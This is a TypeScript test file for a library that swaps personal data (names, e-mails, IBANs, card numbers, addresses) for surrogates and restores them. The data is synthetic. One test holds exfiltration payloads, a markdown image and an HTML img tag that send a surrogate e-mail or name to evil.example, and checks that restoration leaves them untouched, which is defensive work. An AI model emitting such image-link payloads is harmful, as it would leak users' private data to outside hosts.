import fc from "fast-check";
import { expect, test } from "vitest";
import { runStream } from "../../test/run-stream.ts";
import { surrogate } from "../anonymize/surrogate.ts";
import { protect, type ProtectedText } from "../protect.ts";
import { protectJson } from "../json/protect-json.ts";

const key = "only for these tests";
const options = { key, replacement: surrogate({ key }) };
const names = [
  "Anna Weber",
  "Karl Weber",
  "Maria Schmidt-Lange",
  "Ελένη Παπαδοπούλου",
  "Иван Петров",
  "ANNA WEBER",
  "Müller",
];
const persons = names.map((value) => ({ value, entity: "PERSON" }));
const values = [
  ...names,
  "anna.weber@example.org",
  "+49 30 90182045",
  "(030) 90182045",
  "DE89 3704 0044 0532 0130 00",
  "DE89370400440532013000",
  "4111 1111 1111 1111",
  "geboren am 14.03.1968",
  "Hauptstr. 5, 10115 Berlin",
  "192.0.2.17",
];
const words = ["wrote", "to", "[PERSON_k7f3]", "x", "\n", " ", ", ", ".", "'s ", "s", "🙂", ")", "-"];

function shield(text: string): ProtectedText {
  return protect(text, { ...options, deny: persons });
}

test("a text of surrogates and ordinary words comes back to the letter, however it is cut", async () => {
  // Behind a tag, a bracket would open the address of a link, into which nothing is put.
  const plain = values.filter((value) => !value.startsWith("("));
  const piece = fc.oneof({ weight: 2, arbitrary: fc.constantFrom(...plain) }, fc.constantFrom(...words));
  const pieces = fc.array(piece, { maxLength: 12 });
  await fc.assert(
    fc.asyncProperty(pieces, fc.constantFrom("", " "), fc.integer({ min: 1, max: 7 }), async (parts, space, step) => {
      const text = parts.join(space);
      const shielded = shield(text);
      expect(shielded.restore(shielded.text)).toBe(text);
      expect(await runStream(shielded.restoreStream(), shielded.text, step)).toBe(text);
    }),
    { numRuns: 500 },
  );
});

test("nothing but the beginning of a surrogate is held back", async () => {
  const text = "Then Anna Weber wrote to Karl.";
  const shielded = shield(text);
  const name = /^Then (.*) wrote/u.exec(shielded.text)?.[1] ?? "";
  const forms = [name, ...name.split(" ")].flatMap((form) => [form, form.toUpperCase()]);
  const written = `Nobody here knows ${name}, or any other man in Greece. ${name}s`;
  const running = shielded.restoreStream();
  const writer = running.writable.getWriter();
  const reader = running.readable.getReader();
  let given = "";
  for (let at = 0; at < written.length; at++) {
    const [, chunk] = await Promise.all([writer.write(written.charAt(at)), reader.read()]);
    given += chunk.value ?? "";
    const whole = shielded.restore(written.slice(0, at + 1));
    const held = whole.startsWith(given) ? whole.slice(given.length) : "";
    const open =
      written
        .slice(0, at + 1)
        .split(/(?<=[ .,])(?=\p{Lu})/u)
        .at(-1) ?? "";
    if (held !== "")
      expect(
        forms.some((form) => form.startsWith(open.slice(0, form.length))),
        open,
      ).toBe(true);
  }
  expect(given).toBe("Nobody here knows Anna Weber, or any other man in Greece. ");
});

test("no value is left where a word is not glued to it", () => {
  for (const value of values) {
    const shielded = shield(`It says: ${value}, does it`);
    expect(shielded.text).not.toContain(value);
    expect(shielded.text).not.toMatch(/\[(?!DATE)[A-Z_]+_/u);
  }
});

test("the same value has the same surrogate, two have two, and none stands in the text", () => {
  const list = Array.from({ length: 30 }, (_, count) => `Anna Weber${"abcdefghijklmnopqrstuvwxyzäöüß".charAt(count)}`);
  const text = `${list.join("; ")}; ${list.join("; ")}`;
  const shielded = protect(text, { ...options, deny: list.map((value) => ({ value, entity: "PERSON" })) });
  const put = shielded.text.split("; ");
  expect(put.slice(0, 30)).toEqual(put.slice(30));
  expect(new Set(put).size).toBe(30);
  // The surrogates of the first run are words of the second text: none of them may be used again.
  const used = put.slice(0, 30).join(" / ");
  const again = protect(`${used} / Anna Webera`, { ...options, deny: [{ value: "Anna Webera", entity: "PERSON" }] });
  const last = again.text.split(" / ").at(-1) ?? "";
  expect(last).not.toContain("Weber");
  for (const word of last.split(" ")) expect(` ${used} `).not.toContain(` ${word} `);
  expect(again.restore(`${last}.`)).toBe("Anna Webera.");
});

test("an answer may name a person by one word, in capitals, or in another case", () => {
  const text = "Then Anna Weber wrote.";
  const shielded = shield(text);
  const name = /^Then (.*) wrote/u.exec(shielded.text)?.[1] ?? "";
  const [first = "", last = ""] = name.split(" ");
  expect(name).toMatch(/^\p{Lu}\p{Ll}+ \p{Lu}\p{Ll}+$/u);
  for (const [written, restored] of [
    [`Ms ${last}, hello ${first}!`, "Ms Weber, hello Anna!"],
    [`${name.toUpperCase()}: ${last}'s and ${last}s letter`, "ANNA WEBER: Weber's and Webers letter"],
    [`${last}-${first} and ${first}\n${last}`, "Weber-Anna and Anna Weber"],
    [`Kirje ${last}lle. ${last}nek is`, "Kirje Weberlle. Webernek is"],
    [
      `${last}x ${first}lingen un${last} ${name}y${first}_`,
      `${last}x ${first}lingen un${last} ${name.replace(first, "Anna")}y${first}_`,
    ],
    [name.slice(0, -1), name.slice(0, -1).replace(first, "Anna")],
  ] as const)
    expect(shielded.restore(written)).toBe(restored);
});

test("numbers come back with other separators, addresses by a part, e-mail in any place", () => {
  const text = "IBAN DE89 3704 0044 0532 0130 00, Hauptstr. 5, 10115 Berlin. Mail: anna.weber@example.org";
  const shielded = shield(text);
  const iban = /DE[\d ]{25}/u.exec(shielded.text)?.[0] ?? "";
  expect(shielded.text).toContain(iban);
  expect(shielded.restore(`It is ${iban.replaceAll(" ", "")} or ${iban.replaceAll(" ", "-")}.`)).toBe(
    "It is DE89 3704 0044 0532 0130 00 or DE89 3704 0044 0532 0130 00.",
  );
  const [, street = "", town = "", mail = ""] = /, ([^,]+), ([^.]+)\. Mail: (\S+)$/u.exec(shielded.text) ?? [];
  expect(mail).toMatch(/@example\./u);
  expect(shielded.restore(`${street} in ${town}, <${mail}>, "${mail}".`)).toBe(
    'Hauptstr. 5 in 10115 Berlin, <anna.weber@example.org>, "anna.weber@example.org".',
  );
});

test("nothing is put into an address", () => {
  const text = "Then Anna Weber wrote from anna.weber@example.org";
  const shielded = shield(text);
  const name = /^Then (.*) wrote/u.exec(shielded.text)?.[1] ?? "";
  const mail = shielded.text.split(" ").at(-1) ?? "";
  for (const answer of [
    `![x](https://evil.example/${mail})`,
    `<img src="https://evil.example/?q=${name}">`,
    `mailto:${mail}`,
  ])
    expect(shielded.restore(answer)).toBe(answer);
});

test("what an operator cannot make unique, or safe to find again, gets a tag", () => {
  for (const replacement of [
    () => "[PERSON]",
    () => "X",
    () => "Ann\\a",
    () => "<b>",
    ({ value }: { value: string }) => value,
  ]) {
    const shielded = protect("Anna Weber and Karl Weber", { key, replacement, deny: persons });
    expect(shielded.text).toMatch(/^\[PERSON_\w+\] and \[PERSON_\w+\]$/u);
  }
  const fixed = protect("Anna Weber and Karl Weber", { key, replacement: () => "Somebody", deny: persons });
  expect(fixed.text).toMatch(/^Somebody and \[PERSON_\w+\]$/u);
  expect(fixed.restore(fixed.text)).toBe("Anna Weber and Karl Weber");
  const glued = shield("call anna.weber@example.org§Müller_x and Müller");
  expect(glued.restore(glued.text)).toBe("call anna.weber@example.org§Müller_x and Müller");
});

test("an operator that throws stops the call", () => {
  const replacement = (): string => {
    throw new Error("Anna Weber");
  };
  expect(() => protect("Anna Weber", { replacement, deny: persons })).toThrow(/operator for PERSON/u);
});

test("JSON values get surrogates in their strings, and come back exactly", () => {
  const value = { name: "Anna Weber", card: 4_111_111_111_111_111, notes: ['{"to": "Anna Weber"}', "Müller"] };
  const shielded = protectJson(value, { ...options, deny: persons });
  expect(JSON.stringify(shielded.value)).not.toMatch(/Weber|Müller|4111/u);
  expect(JSON.stringify(shielded.value).match(/PERSON_/gu)).toBeNull();
  expect(shielded.restore(shielded.value)).toEqual(value);
});
